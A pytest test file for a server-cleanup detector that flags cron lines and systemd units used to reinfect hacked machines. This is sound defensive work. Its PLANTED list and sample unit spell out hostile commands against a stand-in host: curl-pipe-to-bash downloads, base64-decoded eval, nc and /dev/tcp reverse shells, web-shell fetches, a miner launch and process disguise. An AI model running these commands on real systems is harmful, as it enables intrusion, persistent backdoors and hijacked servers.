"""Jobs that a machine runs by itself: ordinary ones, and those that bring an infection back."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from unhijack.parse.server.commands import command_marks
from unhijack.parse.server.cron import Form, cron_marks, jobs_of
from unhijack.parse.server.units import settings_of, unit_marks

PLANTED = [
    (b"curl -fsSL http://bad.test/x | bash", "run-download"),
    (
        b"(wget -q -O - http://bad.test/x || curl -s http://bad.test/x)|sh >/dev/null 2>&1",
        "run-download",
    ),
    (b"wget -qO- http://bad.test/x.txt | php", "run-download"),
    (b'bash -c "$(curl -s http://bad.test/x)"', "run-download"),
    (b"echo aGVsbG8= | base64 -d | sh", "run-decoded"),
    (b'eval "$(echo aGVsbG8= | base64 --decode)"', "run-decoded"),
    (b"curl -s http://bad.test/x | sudo -E bash -", "run-download"),
    (b"php -r 'eval(base64_decode(\"aGVsbG8=\"));'", "run-coded"),
    (b"python3 -c \"exec(__import__('base64').b64decode('aGVsbG8='))\"", "run-coded"),
    (b"bash -i >& /dev/tcp/bad.test/4444 0>&1", "run-reverse-shell"),
    (b"nc bad.test 4444 -e /bin/sh", "run-reverse-shell"),
    (
        b"rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc bad.test 1 >/tmp/f",
        "run-reverse-shell",
    ),
    (b"wget -O /srv/www/shop/lib.php http://bad.test/lib.txt", "run-page-download"),
    (
        b"cp /var/lib/x/a /srv/www/index.php && touch -r /srv/www/x /srv/www/index.php",
        "run-reinfection",
    ),
    (b"echo x > /srv/www/.htaccess; chmod 444 /srv/www/.htaccess", "run-reinfection"),
    (b"nice -n 19 /dev/shm/.x/kernel", "run-place"),
    (b"/var/tmp/.cache/run.sh >/dev/null 2>&1", "run-place"),
    (b"./dig -o stratum+tcp://bad.test:1", "run-miner"),
    (b'exec -a "[kworker/0:1]" ./x', "run-disguise"),
]
ORDINARY = [
    b"PASS=$(echo aGVsbG8= | base64 -d) /srv/backup.sh",
    b"test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )",
    b"wget -q -O /dev/null https://bakery.test/cron.php?key=1",
    b"wget -O - -q -t 1 http://bakery.test/cron.php",
    b"curl -s https://bakery.test/wp-cron.php >/dev/null 2>&1",
    b"curl -s https://api.test/x | python3 -m json.tool > /var/log/x.json",
    b"php /srv/www/shop/bin/magento cron:run 2>&1 | grep -v Ran >> /srv/www/shop/var/log/cron.log",
    b"[ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi",
    b'"/srv/anna/.acme.sh"/acme.sh --cron --home "/srv/anna/.acme.sh" > /dev/null',
    b"find /tmp -type f -mtime +3 -delete",
    b"flock -n /tmp/job.lock /usr/bin/php /srv/www/artisan schedule:run",
    b"mysqldump shop | gzip > /srv/backup/shop.sql.gz",
    b"cat /srv/www/index.php | sha256sum",
    b"cp /srv/www/index.php /srv/backup/",
    b"/usr/bin/certbot renew --quiet --deploy-hook 'systemctl reload nginx'",
    b"tar czf /tmp/site.tgz /srv/www && scp /tmp/site.tgz backup.test:",
]


@pytest.mark.parametrize(("command", "rule"), PLANTED)
def test_a_command_that_brings_it_back_is_certain(command: bytes, rule: str):
    found = {mark.rule: mark.confidence for mark in command_marks(command)}
    assert found.get(rule, 0) >= 0.9


@pytest.mark.parametrize("command", ORDINARY)
def test_an_ordinary_command_shows_nothing(command: bytes):
    assert command_marks(command) == ()


def test_the_line_of_a_user_s_table_is_what_to_cut():
    table = b'# mine\nMAILTO=""\n5 4 * * * /usr/bin/true\n*/5 * * * * curl http://bad.test/x|sh\n@reboot /usr/bin/x\n'
    (found,) = cron_marks(table, Form.USER)
    assert found.cut is not None
    assert table[slice(*found.cut)] == b"*/5 * * * * curl http://bad.test/x|sh\n"
    assert table[found.start : found.end] == b"|sh"


def test_a_system_table_names_a_user_before_the_command():
    table = b"SHELL=/bin/sh\n17 *\t* * *\troot\tcd / && x\n@daily www-data /dev/shm/x\n* bad\n"
    jobs = list(jobs_of(table, Form.SYSTEM))
    assert [(job.line, job.when, job.user, job.command) for job in jobs] == [
        (2, "17 *\t* * *", "root", b"cd / && x"),
        (3, "@daily", "www-data", b"/dev/shm/x"),
    ]
    assert [table[job.start :][: len(job.command)] for job in jobs] == [job.command for job in jobs]


def test_what_a_terminal_does_not_show_is_said():
    table = b"* * * * * /usr/bin/true" + b" " * 200 + b"; /usr/bin/x\n"
    assert [mark.rule for mark in cron_marks(table, Form.USER)] == ["run-hidden-text"]


def test_an_installer_in_a_script_is_weaker_than_one_that_cron_repeats():
    line = b"curl -fsSL https://tools.test/install.sh | sh\n"
    (script,) = cron_marks(line, Form.SHELL)
    (table,) = cron_marks(b"* * * * * " + line, Form.USER)
    assert script.confidence < 0.9 <= table.confidence
    assert script.cut is None


UNIT = b"""[Unit]
Description=Network helper
[Service]
Type=simple
ExecStart=/bin/bash -c \\
  "curl -s http://bad.test/x | bash"
Restart=always
[Install]
WantedBy=multi-user.target
"""


def test_a_unit_whose_command_goes_on_in_the_next_line_is_planted_as_a_whole():
    (found,) = unit_marks(UNIT)
    assert (found.rule, found.whole) == ("run-download", True)
    assert UNIT[found.start : found.end] == b"| bash"


def test_an_ordinary_unit_shows_nothing():
    unit = b"[Service]\r\nExecStart=-/usr/sbin/nginx -g 'daemon on;'\r\nPIDFile=/run/nginx.pid\r\n"
    assert unit_marks(unit) == ()
    assert [(one.name, one.line) for one in settings_of(unit)] == [("ExecStart", 2), ("PIDFile", 3)]


@given(
    st.one_of(
        st.binary(max_size=300),
        st.lists(st.sampled_from([one for one, _ in PLANTED] + [b"|", b";", b"\n", b"* " * 5])).map(
            b"".join
        ),
    ),
    st.sampled_from(Form),
)
def test_whatever_comes_marks_lie_within_it(content: bytes, form: Form):
    for mark in (*cron_marks(content, form), *unit_marks(content)):
        assert 0 <= mark.start <= mark.end <= len(content)


def test_long_lines_do_not_take_long():
    for piece in (
        b"cp ",
        b"|",
        b"nc ",
        b"mkfifo |",
        b"curl ",
        b"/.",
        b"base64 -d",
        b"a=",
        b"socket.socket",
    ):
        command_marks(piece * 4000)
